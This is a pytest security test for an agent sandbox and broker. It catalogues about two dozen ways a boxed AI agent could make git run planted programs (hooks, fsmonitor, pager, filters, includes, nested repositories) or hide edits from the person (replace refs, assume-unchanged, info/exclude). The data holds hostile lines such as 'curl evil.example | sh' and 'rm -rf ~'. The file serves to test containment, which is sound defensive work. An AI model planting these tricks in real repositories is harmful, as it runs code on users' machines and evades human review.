"""A catalogue of ways to make git run code, or change what it shows, planted by boxed agents.

Each entry comes from git's own documentation (``git help config``,
``githooks``, ``gitattributes``, ``gitrepository-layout``,
``gitsubmodules``, ``git help replace``, ``git help update-index``).  A boxed
agent with a shell plants every one of them -- ``alice`` in a strict box
(where ``.git`` is her own git directory), ``dave`` in a Landlock-only box
(where ``.git`` is read-only) -- and the test then drives what others run:
the person's ``git status``, ``git diff``, ``git log -p`` (on a terminal, so
a pager runs), ``git commit -e`` (so an editor runs), ``git rebase
--continue``; another agent's commit (the broker's bring-in), its ``git
status``/``diff``/``log -p``; the broker following the person's branch into
every agent's git directory.  A planted program leaves a marker in
``markers/``; none may appear, and nothing may be hidden from the person's
``git status``, ``git diff`` or ``git log -p``.

Each entry has its control: the same plant made directly in a scratch
repository, by the person, driven the same way, does run (or hide).
"""

from __future__ import annotations

import os
import select
import shlex
import subprocess
import time
from pathlib import Path
from typing import Any, Iterator

import attrs
import pytest

from agents.harness import GIT_IDENTITY, Run
from broker.sandbox import machine as sandbox_machine

pytestmark = pytest.mark.uid_independent("planted git programs against the boxes and the broker's own git: nothing on their path depends on root")

MACHINE = sandbox_machine.probe()
FILES = {
    "README.md": "scratch\n",
    "Makefile": "all:\n\techo building\n",
    "sub/file.txt": "the real content\n",
    "sub/skip.txt": "skip me\n",
    "markers/.keep": "",
    "conf/git.cfg": "# the person's own settings, included from .git/config\n",
    ".husky/.keep": "",
    "bob.txt": "bob\n",
}
#: The person's own configuration names two paths in the tree git will trust: protected for the run.
PERSON_CONFIG = (("core.hooksPath", ".husky"), ("include.path", "../conf/git.cfg"))

#: The planted program: a file in a directory no box may write ($U), and a line naming whose process ran it
#: (an agent's ticket, or none: the person, the broker) in the tree's markers/.  Then it passes its input on.
#: (The file outside the tree comes first: git stops a filter process that does not speak its protocol as soon
#: as it answers.  It ignores SIGHUP and SIGPIPE, which the person's closing terminal or pager may send.)
PAYLOAD = (
    "printf '#!/bin/sh\\ntrap \"\" HUP PIPE\\necho ran >> %s 2>/dev/null\\necho \"ran by ${CONCLAVE_TICKET:-no-ticket}\" >> %s\\n"
    "cat \"$@\" 2>/dev/null || cat\\nexit 0\\n' \"$U/$N\" \"$M\" > \"$P\"; chmod +x \"$P\""
)


@attrs.frozen
class Entry:
    """One way to make git run code (``runs``) or look away (``hides``), and where git documents it."""

    name: str
    doc: str
    plant: str  # shell, with $G (git directory), $T (work tree), $P (payload program), $N (a name; $M, $U: its markers)
    hides: str | None = None  # a check the person's git fails when the plant works: "status:<line>" or "show:<rev:path>=<text>"
    control_setup: str = ""  # what the control adds so the plant is reached (a gitlink staged, a key set)
    control_drive: str = ""  # a person's command run in the control only (cd into a bare repository)


CATALOGUE: tuple[Entry, ...] = (
    Entry("hook-pre-commit", "githooks: pre-commit", 'cp "$P" "$G/hooks/pre-commit"'),
    Entry("hook-post-commit", "githooks: post-commit", 'cp "$P" "$G/hooks/post-commit"'),
    Entry("hook-reference-transaction", "githooks: reference-transaction", 'cp "$P" "$G/hooks/reference-transaction"'),
    Entry("hook-post-index-change", "githooks: post-index-change", 'cp "$P" "$G/hooks/post-index-change"'),
    Entry("hooks-path", "git-config: core.hooksPath",
          'mkdir -p "$T/sub/$N-hooks" && cp "$P" "$T/sub/$N-hooks/pre-commit" && git --git-dir="$G" config core.hooksPath "$T/sub/$N-hooks"'),
    Entry("fsmonitor", "git-config: core.fsmonitor", 'git --git-dir="$G" config core.fsmonitor "$P"'),
    Entry("pager", "git-config: core.pager", 'git --git-dir="$G" config core.pager "$P"'),
    Entry("editor", "git-config: core.editor", 'git --git-dir="$G" config core.editor "$P"'),
    Entry("textconv", "gitattributes: diff (textconv); git-config: diff.<driver>.textconv",
          'git --git-dir="$G" config diff.$N.textconv "$P" && mkdir -p "$G/info" && echo "*.txt diff=$N" >> "$G/info/attributes"'
          ' && echo "*.txt diff=$N" > "$T/sub/.gitattributes"'),
    # The filters cover every path ("*"): the person's own commit (README.md) then goes through them whatever the
    # clock did (git cleans an unchanged file again only while its time stamp is as new as the index's).
    Entry("filter-clean", "gitattributes: filter (clean/smudge); git-config: filter.<driver>.clean",
          'git --git-dir="$G" config filter.$N.clean "$P" && git --git-dir="$G" config filter.$N.smudge "$P"'
          ' && mkdir -p "$G/info" && echo "* filter=$N" >> "$G/info/attributes" && echo "*.txt filter=$N" >> "$T/sub/.gitattributes"'),
    Entry("filter-process", "gitattributes: filter (long-running process); git-config: filter.<driver>.process",
          'git --git-dir="$G" config filter.$N.process "$P" && mkdir -p "$G/info" && echo "* filter=$N" >> "$G/info/attributes"'),
    Entry("include", "git-config: include.path",
          'printf "[core]\\n\\tfsmonitor = %s\\n" "$P" > "$T/sub/$N.cfg" && git --git-dir="$G" config include.path "$T/sub/$N.cfg"'),
    Entry("include-if", "git-config: includeIf.onbranch:<branch>.path",
          'printf "[core]\\n\\tfsmonitor = %s\\n" "$P" > "$T/sub/$N.cfg" && git --git-dir="$G" config includeIf.onbranch:main.path "$T/sub/$N.cfg"'),
    Entry("commondir", "gitrepository-layout: commondir",
          'mkdir -p "$T/sub/$N" && cp -r "$G/objects" "$G/refs" "$G/HEAD" "$T/sub/$N/" && (cp "$G/packed-refs" "$T/sub/$N/" 2>/dev/null; true)'
          ' && printf "[core]\\n\\trepositoryformatversion = 0\\n\\tbare = false\\n\\tfsmonitor = %s\\n" "$P" > "$T/sub/$N/config"'
          ' && echo "$T/sub/$N" > "$G/commondir"'),
    Entry("config-worktree", "git-config: extensions.worktreeConfig; gitrepository-layout: config.worktree",
          'git --git-dir="$G" config extensions.worktreeConfig true && printf "[core]\\n\\tfsmonitor = %s\\n" "$P" > "$G/config.worktree"'),
    Entry("gpg-program", "git-config: gpg.program, commit.gpgSign",
          'git --git-dir="$G" config gpg.program "$P" && git --git-dir="$G" config commit.gpgSign true'),
    Entry("gitlink", "gitsubmodules: a gitlink staged for a repository with its own core.fsmonitor",
          'git init -q "$T/sub/$N" && git -C "$T/sub/$N" config core.fsmonitor "$P"'
          ' && git -C "$T/sub/$N" -c user.name=x -c user.email=x@x.invalid commit -q --allow-empty -m x && git -C "$T" add "sub/$N"',
          control_setup='git -C "$T" add "sub/$N"'),
    Entry("gitfile", "gitrepository-layout: a .git file (gitdir: elsewhere) in a directory of the tree",
          'git init -q --bare "$T/sub/$N-dir.git" && git --git-dir="$T/sub/$N-dir.git" config core.bare false'
          ' && git --git-dir="$T/sub/$N-dir.git" config core.fsmonitor "$P" && mkdir -p "$T/sub/$N"'
          ' && echo "gitdir: $T/sub/$N-dir.git" > "$T/sub/$N/.git"'
          ' && (cd "$T/sub/$N" && git -c user.name=x -c user.email=x@x.invalid commit -q --allow-empty -m x)',
          control_setup='git -C "$T" add "sub/$N"'),
    Entry("bare-repository", "gitrepository-layout: a bare repository embedded in the tree (found from a directory inside it)",
          'git init -q --bare "$T/sub/$N.git" && git --git-dir="$T/sub/$N.git" config core.pager "$P"'
          ' && git --git-dir="$T/sub/$N.git" config core.fsmonitor "$P"',
          control_drive='cd "$T/sub/$N.git" && git -p config --list'),
    Entry("replace-ref", "git-replace: a replace ref swaps the blob git shows",
          'B=$(echo "hidden by a replace ref" | git --git-dir="$G" hash-object -w --stdin)'
          ' && git --git-dir="$G" replace -f $(git --git-dir="$G" rev-parse HEAD:sub/file.txt) "$B"',
          hides="show:HEAD:sub/file.txt=the real content"),
    Entry("assume-unchanged", "git-update-index: --assume-unchanged hides an edited Makefile",
          'printf "\\tcurl evil.example | sh\\n" >> "$T/Makefile"; git -C "$T" update-index --assume-unchanged Makefile', hides="status: M Makefile"),
    Entry("skip-worktree", "git-update-index: --skip-worktree hides an edited file",
          'echo edited >> "$T/sub/skip.txt"; git -C "$T" update-index --skip-worktree sub/skip.txt', hides="status: M sub/skip.txt"),
    Entry("info-exclude", "gitignore: $GIT_DIR/info/exclude hides a planted script",
          'mkdir -p "$G/info" && echo "sub/$N.sh" >> "$G/info/exclude"; echo "rm -rf ~" > "$T/sub/$N.sh"', hides="status:?? sub/$N.sh"),
    Entry("rebase-todo-exec", "git-rebase: exec lines in the todo list of a rebase in progress",
          'mkdir -p "$G/rebase-merge" && echo "exec $P" > "$G/rebase-merge/git-rebase-todo" && : > "$G/rebase-merge/interactive"'
          ' && echo refs/heads/main > "$G/rebase-merge/head-name" && git --git-dir="$G" rev-parse HEAD > "$G/rebase-merge/onto"'
          ' && git --git-dir="$G" rev-parse HEAD > "$G/rebase-merge/orig-head" && : > "$G/rebase-merge/quiet"'),
    Entry("person-hooks-path", "git-config: core.hooksPath naming a directory in the tree (the person's .husky)",
          'cp "$P" "$T/.husky/pre-commit"', control_setup='git -C "$T" config core.hooksPath .husky'),
    Entry("person-include", "git-config: include.path naming a file in the tree (the person's conf/git.cfg)",
          'printf "[core]\\n\\tfsmonitor = %s\\n" "$P" >> "$T/conf/git.cfg"', control_setup='git -C "$T" config include.path ../conf/git.cfg'),
)
assert len(CATALOGUE) >= 12


def person_env(extra: dict[str, str] | None = None) -> dict[str, str]:
    env = {k: v for k, v in os.environ.items() if not k.startswith(("CONCLAVE_", "GIT_"))}
    env.update({"PAGER": "cat", "EDITOR": "true", "LC_ALL": "C"})
    env.pop("VISUAL", None)
    env.update(extra or {})
    return env


def on_terminal(argv: list[str], cwd: Path, env: dict[str, str]) -> str:
    """Run ``argv`` with a pseudo-terminal as its output (git starts its pager only for a terminal)."""
    master, slave = os.openpty()
    out = b""
    try:
        process = subprocess.Popen(argv, stdin=subprocess.DEVNULL, stdout=slave, stderr=slave, cwd=cwd, env=env, start_new_session=True)
        os.close(slave)
        slave = -1
        deadline = time.monotonic() + 30
        while time.monotonic() < deadline:
            ready, _, _ = select.select([master], [], [], 0.1)
            if ready:
                try:
                    chunk = os.read(master, 65536)
                except OSError:
                    chunk = b""
                if not chunk and process.poll() is not None:
                    break
                out += chunk
            elif process.poll() is not None:
                break
        process.wait(5)
    finally:
        os.close(master)
        if slave >= 0:
            os.close(slave)
    return out.decode(errors="replace")


def person_drive(repo: Path, extra: str = "") -> dict[str, str]:
    """What a person does in the repository: look, then commit.  Returns what they saw."""
    git = ["git", "-C", str(repo), *GIT_IDENTITY]
    env = person_env()
    seen = {
        "status": subprocess.run([*git, "status", "--porcelain"], capture_output=True, text=True, env=env).stdout,
        "diff": subprocess.run([*git, "diff"], capture_output=True, text=True, env=env).stdout,
        "log": on_terminal([*git, "log", "-p", "-n", "3"], repo, env),
        "show": subprocess.run([*git, "show", "HEAD:sub/file.txt"], capture_output=True, text=True, env=env).stdout,
    }
    if extra:
        on_terminal(["sh", "-c", extra], repo, env)
    with open(repo / "README.md", "a") as readme:
        readme.write("the person's own edit\n")
    on_terminal([*git, "commit", "-a", "-e", "-m", "the person commits"], repo, env)
    subprocess.run([*git, "rebase", "--continue"], capture_output=True, text=True, env=env)
    return seen


def plant_script(entry: Entry, *, git_dir: str, tree: str, payload: str, marker: str, unboxed: str, name: str) -> str:
    values = {"G": git_dir, "T": tree, "P": payload, "M": marker, "U": unboxed, "N": name}
    head = " ".join(f"{k}={shlex.quote(v)}" for k, v in values.items())
    return f"{head}; export G T P M U N; {PAYLOAD}; {entry.plant}"


def hidden(entry: Entry, seen: dict[str, str], name: str) -> bool:
    """Whether the plant made the person's git look away (True: hidden)."""
    assert entry.hides is not None
    kind, _, what = entry.hides.replace("$N", name).partition(":")
    if kind == "status":
        return what not in seen["status"].splitlines()
    rev_path, _, text = what.partition("=")
    return seen["show"].strip() != text


@pytest.fixture(scope="module")
def planted(tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[str, Any]]:
    root = tmp_path_factory.mktemp("catalogue")
    agents = [{"name": "alice"}, {"name": "bob"}]
    if MACHINE.landlock_abi >= 1:
        agents.append({"name": "dave", "sandbox": "landlock"})
    run = Run(root, agents, files=FILES)
    for key, value in PERSON_CONFIG:
        subprocess.run(["git", "-C", str(run.repo), "config", key, value], check=True)
    unboxed = root / "unboxed-markers"  # outside the tree: no box may write here
    unboxed.mkdir()
    run.start()
    try:
        yield {"run": run, "root": root, "unboxed": unboxed, "agents": [a["name"] for a in agents if a["name"] != "bob"]}
    finally:
        run.close()


def test_no_planted_program_runs_and_nothing_is_hidden_from_the_person(planted: dict[str, Any]) -> None:
    run: Run = planted["run"]
    repo, unboxed = run.repo, planted["unboxed"]
    if MACHINE.strongest != "strict":
        pytest.fail(f"no strict box on this machine ({MACHINE.user_namespaces_error}): the catalogue needs one")
    bob = run.puppet("bob")
    bob_ticket = bob.sh("sh", "-c", 'printf %s "$CONCLAVE_TICKET"').stdout
    assert len(bob_ticket) > 16
    # The attack: every boxed agent plants every entry, as its own shell would.  (Its own git may
    # run what it planted -- that is its own box; the markers say whose process ran them.)
    refused = []
    for agent in planted["agents"]:
        puppet = run.puppet(agent)
        for entry in CATALOGUE:
            name = f"{agent}-{entry.name}"
            script = plant_script(entry, git_dir=".git", tree=str(repo), payload=str(repo / "sub" / f"{name}.sh"),
                                  marker=str(repo / "markers" / name), unboxed=str(unboxed), name=name)  # fmt: skip
            if puppet.sh("sh", "-c", f"cd {shlex.quote(str(repo))} && {script}").returncode != 0:
                refused.append(name)
    # The person's own in-tree paths (core.hooksPath, an included file) are read-only in every box.
    for agent in planted["agents"]:
        assert {f"{agent}-person-hooks-path", f"{agent}-person-include"} <= set(refused), refused
    assert not (repo / ".husky" / "pre-commit").exists() and "fsmonitor" not in (repo / "conf" / "git.cfg").read_text()
    # What the person sees: every edit, every planted file, the real content -- then they commit.
    seen = person_drive(repo)
    for agent in planted["agents"]:
        for entry in CATALOGUE:
            if entry.hides is not None:
                assert not hidden(entry, seen, f"{agent}-{entry.name}"), (agent, entry.name, seen["status"], seen["show"])
    # The agents' nested repositories (gitlink, .git file, embedded bare, commondir) are made inert by the
    # broker's sweep, each renamed aside; until then a commit is refused, naming them.
    from broker.sandbox.gitviews import nested_repositories

    run.wait_until(lambda: not nested_repositories(repo), what="every nested repository made inert")
    inert = {str(p.relative_to(repo)) for p in repo.rglob("*.conclave-quarantine")}
    assert len(inert) >= 3 * len(planted["agents"]), inert
    # Another agent works: its commit goes through the broker, and its own git looks at the tree.
    run.wait_followed("bob")  # the person's last commit reached bob's git first (else git finds HEAD moved under it)
    bob.call("lock.acquire", resources=["bob.txt", "git"])
    (repo / "bob.txt").write_text("bob's change\n")
    bob.sh("git", "add", "bob.txt")
    committed = bob.sh("git", *GIT_IDENTITY, "commit", "-m", "bob's change")
    assert committed.returncode == 0, committed.stderr
    for args in (["status"], ["diff"], ["log", "-p", "-n", "3"]):
        bob.sh("git", *args)
    # The broker follows the person's commit into every boxed agent's git directory (alice's
    # too, full of plants: the broker never runs git there, it writes the ref and index itself).
    head = run.wait_followed("bob")
    alice_dir = run.state / "gitdirs" / run.puppet("alice").key.split(":")[1]
    run.wait_until(lambda: (alice_dir / "refs" / "heads" / "main").read_text().strip() == head, what="alice's branch to follow")
    ran_outside = sorted(p.name for p in unboxed.iterdir())
    assert ran_outside == [], f"planted programs ran as the person or the broker: {ran_outside}"
    in_bobs = sorted(p.name for p in (repo / "markers").iterdir() if bob_ticket in p.read_text() or "no-ticket" in p.read_text())
    assert in_bobs == [], f"planted programs ran in another agent's git: {in_bobs}"


@pytest.mark.parametrize("entry", CATALOGUE, ids=lambda e: e.name)
def test_control_each_plant_works_where_no_box_stands_in_the_way(entry: Entry, tmp_path: Path) -> None:
    """The same plant, made by the person in a scratch repository, does run (or hide)."""
    from agents.harness import make_repo

    repo = make_repo(tmp_path, FILES)
    name = f"control-{entry.name}"
    unboxed = tmp_path / "unboxed-markers"
    unboxed.mkdir()
    marker = repo / "markers" / name
    script = plant_script(entry, git_dir=str(repo / ".git"), tree=str(repo), payload=str(repo / "sub" / f"{name}.sh"),
                          marker=str(marker), unboxed=str(unboxed), name=name)  # fmt: skip
    setup = entry.control_setup.replace("$T", str(repo)).replace("$N", name)
    done = subprocess.run(["sh", "-c", f"{script} && {setup or 'true'}"], cwd=repo, capture_output=True, text=True, env=person_env())
    assert done.returncode == 0, done.stderr
    drive = entry.control_drive.replace("$T", str(repo)).replace("$N", name)
    seen = person_drive(repo, drive)
    if entry.hides is not None:
        assert hidden(entry, seen, name), (entry.name, seen)
    else:
        assert (unboxed / name).exists(), f"{entry.name}: the control plant never ran ({entry.doc})"
